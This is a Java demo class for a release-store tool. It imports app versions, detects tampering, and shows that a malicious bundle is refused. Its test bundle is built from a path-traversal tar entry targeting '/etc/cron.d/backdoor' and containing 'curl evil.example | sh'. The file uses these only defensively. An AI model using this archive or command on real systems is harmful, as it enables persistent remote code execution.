package dev.backstop.demo;

import dev.backstop.BackstopException;
import dev.backstop.config.BackstopConfig;
import dev.backstop.config.ConfigLoader;
import dev.backstop.doctor.Doctor;
import dev.backstop.doctor.Finding;
import dev.backstop.release.ImportOutcome;
import dev.backstop.release.ImportProgress;
import dev.backstop.release.ReleaseCatalog;
import dev.backstop.release.ReleaseListing;
import dev.backstop.release.ReleaseStore;
import dev.backstop.release.VerifyOutcome;
import dev.backstop.store.Store;
import dev.backstop.timeline.Timeline;
import java.io.IOException;
import java.io.OutputStream;
import java.io.PrintWriter;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.Optional;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.apache.commons.compress.compressors.gzip.GzipCompressorOutputStream;

/**
 * The release-store part of {@code backstop demo}: the example shop's versions imported as
 * immutable releases, a repeated import recognised, a malicious bundle refused, an in-place edit
 * caught by verify, and doctor telling whether a rollback is possible. Each step says in a
 * sentence what happened and why it matters.
 */
public final class ReleaseStoreDemo {

    private static final String ACTOR = "demo";

    private final PrintWriter out;

    public ReleaseStoreDemo(PrintWriter out) {
        this.out = out;
    }

    /** Runs the demo in {@code workDir}, which must be empty or missing. */
    public void run(Path workDir) {
        Path appDir = ExampleApp.extractTo(workDir.resolve("shop"));
        BackstopConfig config = new ConfigLoader().load(appDir.resolve("backstop.yml"));
        try (Store store = Store.open(config.store())) {
            Timeline timeline = new Timeline(store.jdbi());
            ReleaseStore releases = new ReleaseStore(config, new ReleaseCatalog(store.jdbi(), timeline), timeline, Clock.systemUTC());
            importVersions(releases, appDir);
            refuseMaliciousBundle(releases, workDir);
            catchHotFix(releases, config);
            listAndDoctor(releases, config);
            out.printf("%nEverything above is in %s (store: %s).%n", workDir, config.data());
            out.flush();
        }
    }

    private void importVersions(ReleaseStore releases, Path appDir) {
        step("Import the four versions of the example shop. Each becomes a read-only release with a SHA-256 manifest, "
                + "so the way back never depends on a package repository.");
        for (String version : new String[] {"v1", "v2", "v3", "v4"}) {
            ImportOutcome outcome = releases.importBundle(appDir.resolve(version), version, ACTOR, ImportProgress.NONE);
            say("imported %s as release %s (%d files)", version, outcome.release().id(), outcome.release().fileCount());
        }
        ImportOutcome again = releases.importBundle(appDir.resolve("v1"), "v1", ACTOR, ImportProgress.NONE);
        say("importing v1 again: %s", again.alreadyPresent() ? "same content, nothing to do" : "imported?!");
    }

    private void refuseMaliciousBundle(ReleaseStore releases, Path workDir) {
        step("Import a bundle whose entry climbs out of the release ('../../etc/cron.d/backdoor'). "
                + "It is refused with the entry named, and nothing is left on disk.");
        Path bundle = maliciousBundle(workDir.resolve("evil.tar.gz"));
        try {
            releases.importBundle(bundle, "evil", ACTOR, ImportProgress.NONE);
            say("imported?! (this is a bug)");
        } catch (BackstopException refused) {
            say("refused: %s", refused.getMessage());
        }
    }

    private void catchHotFix(ReleaseStore releases, BackstopConfig config) {
        step("Someone 'hot fixes' release v3 on the server by editing one file. 'backstop release verify' re-hashes it, "
                + "finds the change and marks v3 corrupt: it will never be chosen as a rollback target.");
        Path file = config.releasesDir().resolve(releases.catalog().require(config.app(), "v3").id()).resolve("VERSION");
        try {
            file.toFile().setWritable(true, true);
            Files.writeString(file, "v3-hotfix\n", StandardCharsets.UTF_8);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        for (VerifyOutcome outcome : releases.verify(Optional.empty(), ACTOR)) {
            say("%s", outcome.describe());
        }
    }

    private void listAndDoctor(ReleaseStore releases, BackstopConfig config) {
        step("'backstop release list' and 'backstop doctor'. No release has passed a verify window yet, so doctor says "
                + "plainly that a rollback is not possible: you learn it now, not during an outage.");
        for (ReleaseListing listing : releases.list()) {
            say("%-4s %-22s %s", listing.release().version(), listing.release().id(), listing.displayState());
        }
        for (Finding finding : new Doctor(config, releases).examine().findings()) {
            say("doctor %-4s %s", finding.status(), finding.message());
        }
    }

    private static Path maliciousBundle(Path file) {
        byte[] payload = "curl evil.example | sh\n".getBytes(StandardCharsets.UTF_8);
        try (OutputStream raw = Files.newOutputStream(file);
                TarArchiveOutputStream tar = new TarArchiveOutputStream(new GzipCompressorOutputStream(raw))) {
            TarArchiveEntry entry = new TarArchiveEntry("../../etc/cron.d/backdoor", true);
            entry.setSize(payload.length);
            tar.putArchiveEntry(entry);
            tar.write(payload);
            tar.closeArchiveEntry();
            return file;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private void step(String sentence) {
        out.printf("%n== %s%n", sentence);
        out.flush();
    }

    private void say(String format, Object... args) {
        out.printf("   " + format + "%n", args);
        out.flush();
    }
}
